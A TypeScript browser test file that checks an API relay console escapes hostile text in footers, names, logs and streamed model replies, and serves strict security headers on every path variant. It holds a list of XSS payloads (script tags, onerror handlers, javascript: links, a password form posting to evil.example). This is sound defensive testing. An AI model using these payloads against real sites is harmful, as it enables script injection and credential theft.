import { once } from 'node:events'
import { request } from 'node:http'
import type { Page } from 'playwright-core'
import { afterAll, expect, test } from 'vitest'
import { roles } from '#core/roles.ts'
import { setOptions } from '../relay/serve.ts'
import { describeWithBrowser } from '../support/chromium.ts'
import type { TestUser } from '../support/factories.ts'
import { chunks, json, startScriptedUpstream } from '../support/scripted-upstream.ts'
import { drawn, follow, openConsole, startInBrowser } from './console.ts'

/** Would run, call out or lie over the page, each in its own way. */
const hostile = [
  '<img src="https://evil.example/i.png" onerror="window.pwned=1">',
  '<img src=x onerror="window.pwned=2">',
  '<script>window.pwned=3</script>',
  '<svg onload="window.pwned=4"><a xlink:href="javascript:window.pwned=5"><text>t</text></a></svg>',
  '<a href="javascript:window.pwned=6">press</a>',
  '[press](javascript:window.pwned=7)',
  '![see](https://evil.example/m.png)',
  '<iframe srcdoc="<script>parent.pwned=8</script>"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  '<details open ontoggle="window.pwned=9">d</details>',
  '<div id="content" style="position:fixed;inset:0;z-index:99999;background:red" class="hostile">cover</div>',
].join('\n\n')

describeWithBrowser('text that callers or careless operators wrote', async () => {
  const { app, browser } = await startInBrowser()
  const upstream = await startScriptedUpstream()
  const root = { ...(await app.make.user({ role: roles.root, username: 'root' })), role: roles.root }
  await setOptions(app, { LogErrorEnabled: 'true', RetryTimes: '0', SelfUseModeEnabled: 'true' })
  afterAll(() => upstream[Symbol.asyncDispose]())

  /** A window in which every call that leaves this origin is kept, and none of them gets anywhere. */
  async function open(reader?: TestUser & { role: number }) {
    const { page, context, complaints } = await openConsole(browser, app, {
      language: 'en',
      ...(reader ? { reader } : {}),
    })
    const leaving: string[] = []
    await context.route(
      (url) => url.origin !== app.url,
      (route) => {
        leaving.push(route.request().url())
        return route.abort()
      },
    )
    return { page, context, complaints, leaving }
  }

  async function expectInert(page: Page, leaving: string[]): Promise<void> {
    await drawn(page)
    const found = await page.evaluate(() => ({
      pwned: (window as { pwned?: unknown }).pwned,
      links: document.querySelectorAll('a[href^="javascript:"], a[*|href^="javascript:"]').length,
      handlers: [...document.querySelectorAll('*')].filter((node) =>
        node.getAttributeNames().some((name) => name.startsWith('on')),
      ).length,
      forms: document.querySelectorAll('form[action*="evil"]').length,
      frames: document.querySelectorAll('iframe').length,
    }))
    expect(found).toEqual({ pwned: undefined, links: 0, handlers: 0, forms: 0, frames: 0 })
    expect(leaving.filter((address) => address.includes('evil.example'))).toEqual([])
  }

  test('the footer, the home page, the about page and the notice are cleaned, and cover nothing', async () => {
    const above =
      '<p style="position:absolute;top:-9999px;margin-top:-2000px;height:4000px;width:9999px;transform:translate(-50%,-50%)">x</p>'
    // An image in the footer is the operator's own to show.
    const footer = hostile.replaceAll('https://evil.example/i.png', '/icon.svg') + above
    await setOptions(app, { Footer: footer, HomePageContent: hostile, About: hostile, Notice: hostile })
    const { page, context, leaving } = await open()
    await page.goto('/')
    for (const path of ['/', '/about', '/login']) {
      await follow(page, path)
      await expectInert(page, leaving)
      const covered = await page.evaluate(() => {
        const inHeader = [...document.querySelectorAll('header a, header button')].map((node) =>
          node.getBoundingClientRect(),
        )
        return inHeader
          .filter(({ width, height }) => width > 0 && height > 0)
          .filter(
            ({ x, y, width, height }) =>
              document.elementFromPoint(x + width / 2, y + height / 2)?.closest('header') === null,
          ).length
      })
      expect(covered, path).toBe(0)
      expect(await page.locator('header a, header button').count(), path).toBeGreaterThan(0)
    }
    expect(await page.locator('#content').count()).toBe(1)
    await context.close()
    await setOptions(app, { Footer: '', HomePageContent: '', About: '', Notice: '' })
  })

  test('names, tags, models, log rows and the errors of upstreams are shown as they are written', async () => {
    const name = '<img src=x onerror="window.pwned=10">"\'><script>window.pwned=11</script>'
    const model = '<b onclick=pwned=12>m'
    const baseUrl = upstream.play({ ...json({ error: { message: hostile, type: name } }), status: 400 })
    const { id } = await app.make.channel({ models: model, name, baseUrl })
    await app.pool.query('update channels set tag = $2 where id = $1', [id, name])
    const token = await app.make.token(root)
    await app.pool.query('update tokens set name = $2 where id = $1', [token.id, name.slice(0, 50)])
    await app.pool
      .query('update users set display_name = $1, remark = $1', [name.slice(0, 20)])
      .catch(() => app.pool.query('update users set display_name = $1', [name.slice(0, 20)]))
    await app.services.channels.reload(id)
    const reply = await app.relay(
      token,
      '/v1/chat/completions',
      { model, messages: [{ role: 'user', content: name }] },
      {
        headers: { 'user-agent': name },
      },
    )
    expect(reply.status).toBe(400)
    await expect.poll(async () => (await app.logs()).length).toBeGreaterThan(0)
    const { page, context, leaving } = await open(root)
    await page.goto('/app/logs/api-usage')
    for (const path of ['/app/logs/api-usage', '/admin/channels', '/app/tokens', '/admin/users', '/app/dashboard']) {
      await follow(page, path)
      await expectInert(page, leaving)
    }
    await follow(page, '/app/logs/api-usage')
    await page.getByText('<b onclick', { exact: false }).first().waitFor()
    await context.close()
  })

  test('what a model answers is drawn without running, and fetches nothing by itself', async () => {
    await setOptions(app, { LogChatContentEnabled: 'true' })
    const delta = (content: string) => ({
      id: 'c',
      object: 'chat.completion.chunk',
      model: 'painter',
      choices: [{ index: 0, delta: { content } }],
    })
    const ended = {
      id: 'c',
      object: 'chat.completion.chunk',
      model: 'painter',
      choices: [{ index: 0, delta: {}, finish_reason: 'stop' }],
    }
    const { id } = await app.make.channel({
      models: 'painter',
      baseUrl: upstream.play(chunks(delta(hostile), delta('\n\nthe very end'), ended)),
    })
    await app.services.channels.reload(id)
    const { page, context, leaving } = await open(root)
    await page.goto('/playground?model=painter')
    await page.getByRole('textbox', { name: 'Message', exact: true }).fill(hostile)
    await page.keyboard.press('Enter')
    await page.getByText('the very end').first().waitFor()
    await page.getByText('see', { exact: false }).first().waitFor()
    await expectInert(page, leaving)
    // And where the operator has it stored with the call.
    await expect.poll(async () => (await app.logs()).some((row) => row.model_name === 'painter')).toBe(true)
    await follow(page, '/app/logs/api-usage?model=painter')
    await page.getByRole('cell', { name: 'painter' }).click()
    await page.getByText('the very end').waitFor()
    await expectInert(page, leaving)
    await context.close()
  })

  test('every way to the console’s page has the same policy', async () => {
    const ways = [
      '/',
      '/index.html',
      '/INDEX.HTML',
      '/index%2ehtml',
      '/index%2Ehtml',
      '/%69ndex.html',
      '/index.html/',
      '//index.html',
      '/./index.html',
      '/assets/../index.html',
      '/index.html?x=1',
      '/index.html%20',
      '/index.html.',
      '/..%2findex.html',
      '/assets%2f..%2findex.html',
      '/index.htm',
      '/login',
      '/no/such/page',
      '/other.html',
    ]
    for (const way of ways) {
      const { status, headers, body } = await getRaw(way)
      if (!String(headers['content-type']).startsWith('text/html')) {
        expect(status, way).toBeGreaterThanOrEqual(400)
        continue
      }
      expect(status, way).toBe(200)
      expect(headers['content-security-policy'], way).toMatch(/script-src 'self' 'nonce-[\w+/=]+'/)
      expect(headers, way).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'SAMEORIGIN',
        'cache-control': 'no-cache',
        'referrer-policy': 'same-origin',
      })
      expect(body, way).not.toMatch(/__CSP_NONCE__|<!--custom-head-->/)
      expect(body.match(/<script(?![^<>]*nonce=)/g), way).toBeNull()
    }
    expect((await getRaw('/index.html')).status).toBe(200)
  })

  /** The path as it stands: a browser would tidy it up before it asks. */
  async function getRaw(path: string) {
    const { hostname, port } = new URL(app.url)
    const asked = request({ hostname, port, path }).end()
    const [reply] = await once(asked, 'response')
    const parts: Buffer[] = []
    for await (const part of reply) parts.push(part as Buffer)
    return {
      status: reply.statusCode as number,
      headers: reply.headers as Record<string, string>,
      body: Buffer.concat(parts).toString(),
    }
  }
})
